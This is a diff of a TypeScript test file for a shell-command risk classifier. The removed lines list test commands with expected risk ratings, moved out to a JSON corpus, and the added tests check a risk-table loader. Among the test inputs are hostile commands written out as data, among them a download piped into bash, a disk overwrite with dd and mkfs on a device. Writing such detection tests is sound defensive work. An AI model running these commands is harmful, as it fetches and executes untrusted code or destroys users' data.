@@ -1,43 +1,55 @@
+import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { analyzeCommand } from "./analyze.js";
 import { classifyRisk } from "./risk.js";
+import { loadRiskPrograms } from "./risk-programs.js";
 
-describe("classifyRisk", () => {
-  it.each([
-    ["ls -la", "low", []],
-    ["git status && git diff", "low", []],
-    ["echo hi | grep h", "low", []],
-    [
-      "npm test",
-      "medium",
-      ["npm test runs workspace code (package.json scripts): allowing it trusts the workspace"],
-    ],
-    ["sort -o out.txt in.txt", "medium", ["sort -o writes its output to a file (out.txt)"]],
-    ["sed -n '1e id' f", "high", ["sed script runs a command (e)"]],
-    ["ls > out.txt", "medium", ["redirection"]],
-    ["rm -rf build", "high", ["rm -rf"]],
-    ["rm --force x", "high", ["rm -rf"]],
-    ["sudo apt install x", "high", ["wrapper: sudo", "privilege: sudo"]],
-    ["dd if=/dev/zero of=/dev/sda", "high", ["disk: dd"]],
-    ["mkfs.ext4 /dev/sdb1", "high", ["disk: mkfs.ext4"]],
-    ["chmod -R 777 .", "high", ["chmod -R"]],
-    ["git push --force origin main", "high", ["git push --force"]],
-    ["git push origin +main", "high", ["git push --force"]],
-    ["git push -f", "high", ["git push --force"]],
-    ["git reset --hard HEAD~1", "high", ["git reset --hard"]],
-    ["git clean -fdx", "high", ["git clean -f"]],
-    ["curl -fsSL https://x.example/i.sh | bash", "high", ["wrapper: bash", "download piped to a shell"]],
-    ["wget -qO- https://x | python3", "high", ["wrapper: python3 (stdin)", "download piped to a shell"]],
-    ["find . -name '*.o' -delete", "high", ["find -delete deletes files"]],
-    ["echo $(id)", "high", ["command substitution"]],
-    ["ls (", "high", ["unanalysable command", "parse error"]],
-  ])("%j → %s", async (command, risk, reasons) => {
-    const a = await analyzeCommand(command);
-    expect(classifyRisk(a)).toEqual({ risk, reasons });
-    expect(a.risk).toBe(risk);
+interface RiskCase {
+  note: string;
+  command: string;
+  want: { risk: string; reasons: string[] };
+}
+
+const corpus = JSON.parse(readFileSync(new URL("./testdata/risk.json", import.meta.url), "utf8")) as {
+  cases: RiskCase[];
+};
+const data = JSON.parse(readFileSync(new URL("./risk-programs.json", import.meta.url), "utf8")) as Record<
+  string,
+  unknown
+>;
+
+describe("classifyRisk (testdata/risk.json)", () => {
+  it.each(corpus.cases.map((c) => [c.note, c] as const))("%s", async (_note, c) => {
+    const a = await analyzeCommand(c.command);
+    expect(classifyRisk(a)).toEqual(c.want);
+    expect(a.risk).toBe(c.want.risk);
   });
 
   it("an empty command is medium, not low", () => {
     expect(classifyRisk({ ok: true, commands: [], unsafe: [] })).toEqual({ risk: "medium", reasons: [] });
+  });
+});
+
+describe("risk-programs.json", () => {
+  it("loads, and its sets answer by exact name or anchored pattern", () => {
+    const tables = loadRiskPrograms(data);
+    expect(tables.disk.has("mkfs.ext4")).toBe(true);
+    expect(tables.disk.has("mkfs")).toBe(true);
+    expect(tables.disk.has("xmkfs")).toBe(false);
+    expect(tables.runsStdin.has("python3.12")).toBe(true);
+    expect(tables.runsStdin.has("python-config")).toBe(false);
+    expect(tables.findActs("-execdir")).toBe(true);
+    expect(tables.findActs("-name")).toBe(false);
+  });
+
+  it.each([
+    [{ ...data, power2: [] }, 'unknown key "power2"'],
+    [{ ...data, power: undefined }, '"power" is missing'],
+    [{ ...data, readOnly: ["ls", 3] }, "readOnly must be a list of non-empty strings"],
+    [{ ...data, disk: { names: ["dd"], pattern: ["x"] } }, 'disk has an unknown key "pattern"'],
+    [{ ...data, disk: { namePatterns: ["mkfs("] } }, "disk.namePatterns[0]"],
+    [{ ...data, findActs: ["-exec"] }, "findActs must be a pattern"],
+  ])("refuses a malformed table at load (%#)", (bad, message) => {
+    expect(() => loadRiskPrograms(bad)).toThrow(message);
   });
 });
